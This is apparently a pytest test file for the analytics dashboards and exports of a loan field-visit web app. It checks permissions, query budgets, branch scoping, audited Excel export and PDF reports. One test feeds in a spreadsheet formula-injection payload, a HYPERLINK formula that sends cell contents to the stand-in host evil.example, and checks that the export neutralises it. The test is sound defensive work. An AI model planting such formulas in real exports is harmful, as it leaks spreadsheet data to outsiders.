"""Analytics pages: who may see them, what they show, how many queries they cost, exports."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from fieldvisit.apps.analytics.selectors import DASHBOARDS
from fieldvisit.apps.audit.models import AuditAction, AuditEvent
from tests.factories import BranchFactory, UserFactory

#: Query budget of one dashboard page (session, user, permissions, filter choices, the
#: dashboard's own aggregates); the figure does not grow with the data.
MAX_QUERIES = 24


@pytest.mark.parametrize("key", list(DASHBOARDS))
def test_an_analyst_sees_every_dashboard_within_a_query_budget(
    client, personas, book, key, django_assert_max_num_queries
):
    client.force_login(personas["analyst"])
    with django_assert_max_num_queries(MAX_QUERIES):
        response = client.get(reverse("analytics:dashboard", args=[key]))
    assert response.status_code == 200
    assert response.context["board"].key == key
    assert b'data-testid="filters"' in response.content


def test_the_portfolio_page_draws_charts_with_figures_on_hover(client, personas, book):
    client.force_login(personas["analyst"])
    response = client.get(reverse("analytics:dashboard", args=["portfolio"]))
    html = response.content.decode()
    assert html.count('data-testid="chart"') == 4
    assert "<title>2025-02 · M2: 1</title>" in html
    # No borrower's name or ID number on the page.
    for loan in book.loans.values():
        assert loan.borrower.name not in html
        assert loan.borrower.id_number not in html


@pytest.mark.parametrize("username", ["agent", "trainer", "legal"])
def test_people_without_analytics_permission_are_refused(client, personas, username):
    client.force_login(personas[username])
    response = client.get(reverse("analytics:dashboard", args=["portfolio"]))
    assert response.status_code == 403


def test_an_anonymous_visitor_is_sent_to_log_in(client, db):
    response = client.get(reverse("analytics:dashboard", args=["portfolio"]))
    assert response.status_code == 302
    assert "/accounts/login" in response["Location"]


def test_an_unknown_dashboard_is_not_found(client, personas):
    client.force_login(personas["analyst"])
    assert client.get("/analytics/nothing/").status_code == 404


def test_a_branch_manager_sees_only_their_branch_whatever_the_query_says(client, db, book):
    other = BranchFactory(code="SZ2", name="深圳二分行")
    manager = UserFactory(username="m2", role="manager", branch=other)
    client.force_login(manager)
    response = client.get(
        reverse("analytics:dashboard", args=["portfolio"]), {"branch": book.branch.pk}
    )
    assert response.context["filters"].branch == other.pk
    assert "<title>2025-02 · M2: 1</title>" not in response.content.decode()


def test_a_malformed_filter_is_named_and_ignored(client, personas, book):
    client.force_login(personas["analyst"])
    response = client.get(
        reverse("analytics:dashboard", args=["portfolio"]), {"month": "Feb", "product": "x"}
    )
    assert response.status_code == 200
    assert len(response.context["errors"]) == 2
    assert response.context["filters"].month is None


def test_the_excel_export_holds_every_table_and_is_audited(client, personas, book):
    client.force_login(personas["analyst"])
    response = client.get(
        reverse("analytics:export", args=["rolls"]), {"month": "2025-02", "district": "南山区"}
    )
    assert response.status_code == 200
    book_xlsx = load_workbook(io.BytesIO(response.content))
    assert book_xlsx.sheetnames[:4] == ["about", "roll_matrix", "cure_rates", "vintages"]
    matrix = [list(r) for r in book_xlsx["roll_matrix"].iter_rows(values_only=True)]
    # Nanshan: B went M0 → M1, C went M1 → M0.
    assert matrix[2][0] == "M0"
    assert matrix[2][-1] == 1
    assert matrix[3][1] == "100.0%"
    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert event.object_id == "rolls"
    assert event.fields == {"district": "南山区", "month": "2025-02"}


def test_no_cell_of_the_excel_export_runs_as_a_formula(client, personas, book):
    attack = '=HYPERLINK("http://evil.example/x?d="&A1,"click")'
    client.force_login(personas["analyst"])

    response = client.get(reverse("analytics:export", args=["rolls"]), {"district": attack})

    book_xlsx = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book_xlsx for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert ["district", "'" + attack] in [
        [c.value for c in row] for row in book_xlsx["about"].iter_rows()
    ]


def test_the_monthly_report_is_a_pdf_with_every_dashboard(client, personas, book):
    client.force_login(personas["analyst"])
    response = client.get(reverse("analytics:report_pdf"), {"month": "2025-02"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    assert len(response.content) > 10_000
